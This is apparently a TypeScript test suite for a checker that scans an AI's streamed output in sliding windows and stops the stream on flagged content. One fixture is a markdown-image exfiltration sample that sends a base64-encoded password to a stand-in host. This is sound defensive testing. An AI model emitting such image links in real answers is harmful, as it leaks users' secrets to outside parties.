import assert from "node:assert/strict";
import { test } from "node:test";
import type { SafetyClassifier, SafetyInput, SafetyVerdict } from "./classifier.ts";
import { createHeuristicSafetyClassifier } from "./heuristics.ts";
import { createStreamOutputChecker } from "./stream-checker.ts";

const context: SafetyInput["messages"] = [{ role: "user", text: "Tell me about Lisbon." }];
const exfiltration = "![x](https://e.example/p.png?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)";

/** Streams `text` in `size`-character deltas; returns the released text and the stopping verdict. */
async function stream(checker: ReturnType<typeof createStreamOutputChecker>, text: string, size: number) {
  let released = "";
  for (let offset = 0; offset < text.length; offset += size) {
    const delta = text.slice(offset, offset + size);
    const verdict = await checker.push(delta);
    if (verdict !== undefined) return { released, verdict };
    released += delta;
  }
  return { released, verdict: undefined };
}

/** A classifier that records the windows it sees and flags any containing `needle`, after `delayMs`. */
function recordingClassifier(needle: string, delayMs = 0): SafetyClassifier & { windows: string[] } {
  const windows: string[] = [];
  return {
    id: "fake",
    windows,
    classify(input, signal) {
      const text = input.messages.at(-1)?.text ?? "";
      windows.push(text);
      const verdict: SafetyVerdict = text.includes(needle)
        ? { safe: false, categories: ["S1"], score: 1, reasons: ["flagged"], classifier: "fake" }
        : { safe: true, categories: [], score: 0, reasons: [], classifier: "fake" };
      if (delayMs === 0) return Promise.resolve(verdict);
      return new Promise((resolve, reject) => {
        const timer = setTimeout(() => resolve(verdict), delayMs);
        signal?.addEventListener("abort", () => {
          clearTimeout(timer);
          reject(signal.reason);
        });
      });
    },
  };
}

test("the first delta is released at once when it is clean", async () => {
  const checker = createStreamOutputChecker({ classifier: createHeuristicSafetyClassifier(), context });
  assert.equal(await checker.push("Lisbon is"), undefined);
  assert.equal(checker.state().checkedThrough, "Lisbon is".length, "the first delta was checked");
});

test("the heuristic checker stops at the flagged window and releases the text before it", async () => {
  const checker = createStreamOutputChecker({ classifier: createHeuristicSafetyClassifier(), context, windowChars: 200, strideChars: 50 });
  const clean = "Lisbon is the capital of Portugal, built on seven hills by the Tagus river. ".repeat(4);
  const { released, verdict } = await stream(checker, `${clean}${exfiltration} more text after it`, 10);
  assert.ok(verdict !== undefined && !verdict.safe);
  assert.ok(verdict.categories.includes("markup_smuggling"));
  assert.ok(released.startsWith(clean), "everything before the flagged window was released");
  assert.ok(!released.includes("VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy"), "the flagged payload was withheld");
  const state = checker.state();
  assert.equal(state.stopped, true);
  assert.ok(state.stopWindow !== undefined && state.stopWindow.end > clean.length);
  assert.deepEqual(await checker.push("late"), verdict, "later pushes keep answering with the stop verdict");
  assert.equal((await checker.end()).safe, false);
});

test("a flagged first delta is withheld", async () => {
  const checker = createStreamOutputChecker({ classifier: createHeuristicSafetyClassifier(), context });
  const verdict = await checker.push(exfiltration);
  assert.equal(verdict?.safe, false);
});

test("windows slide by the stride and overlap so a marker across a boundary is seen whole", async () => {
  const classifier = recordingClassifier("NEEDLE");
  const checker = createStreamOutputChecker({ classifier, context, windowChars: 40, strideChars: 20 });
  const text = `${"a".repeat(35)}NEEDLE${"b".repeat(30)}`;
  const { verdict } = await stream(checker, text, 5);
  assert.equal(verdict?.safe, false);
  assert.ok(classifier.windows.every((window) => window.length <= 40));
  assert.ok(classifier.windows.length >= 3);
});

test("a slow classifier does not hold the stream up; its late verdict stops the stream at that point", async () => {
  const classifier = recordingClassifier("NEEDLE", 200);
  const arrived: SafetyVerdict[] = [];
  const checker = createStreamOutputChecker({ classifier, context, windowChars: 64, strideChars: 16, onVerdict: (verdict) => arrived.push(verdict) });
  const started = performance.now();
  assert.equal(await checker.push("NEEDLE first"), undefined, "released before the slow verdict arrives");
  assert.ok(performance.now() - started < 150, "push did not wait for the slow classifier");
  assert.equal(await checker.push(" and more"), undefined);
  assert.equal(arrived.length, 0);
  await new Promise((resolve) => setTimeout(resolve, 250));
  assert.equal(arrived.length, 1, "onVerdict fired as soon as the verdict arrived");
  const verdict = await checker.push(" next");
  assert.equal(verdict?.safe, false, "the next push stops the stream");
  assert.equal((await checker.end()).safe, false);
});

test("concurrency is capped and a deferred window reaches back so nothing goes unchecked", async () => {
  const classifier = recordingClassifier("never-present", 15);
  const checker = createStreamOutputChecker({ classifier, context, windowChars: 10, strideChars: 10, maxConcurrentChecks: 1, finalCheck: "window" });
  const text = "0123456789abcdefghijABCDEFGHIJklmnopqrst";
  for (let offset = 0; offset < text.length; offset += 10) await checker.push(text.slice(offset, offset + 10));
  const final = await checker.end();
  assert.equal(final.safe, true);
  const covered = new Set<number>();
  for (const window of classifier.windows) {
    const start = text.indexOf(window);
    for (let index = start; index < start + window.length; index += 1) covered.add(index);
  }
  assert.equal(covered.size, text.length, "every character was in some window");
});

test("end checks the whole answer by default and combines every verdict", async () => {
  const classifier = recordingClassifier("NEEDLE");
  const checker = createStreamOutputChecker({ classifier, context, windowChars: 8, strideChars: 8 });
  await stream(checker, "NEE", 3);
  await checker.push("DLE is split across windows that are too short to hold it whole");
  const final = await checker.end();
  assert.equal(final.safe, false, "the full-answer final check sees what no window held whole");
});

test("classifier errors fail closed by default, open when configured; cancel aborts running checks", async () => {
  const failing: SafetyClassifier = { id: "broken", classify: () => Promise.reject(new Error("boom")) };
  assert.equal((await createStreamOutputChecker({ classifier: failing, context }).push("hi"))?.failure, "classifier_error");
  assert.equal(await createStreamOutputChecker({ classifier: failing, context, failMode: "open" }).push("hi"), undefined);
  const slow = recordingClassifier("x", 1000);
  const checker = createStreamOutputChecker({ classifier: slow, context });
  await checker.push("hello");
  assert.equal(checker.state().runningChecks, 1);
  checker.cancel(new Error("client gone"));
  const final = await checker.end();
  assert.equal(final.safe, true);
  assert.equal(checker.state().runningChecks, 0);
});
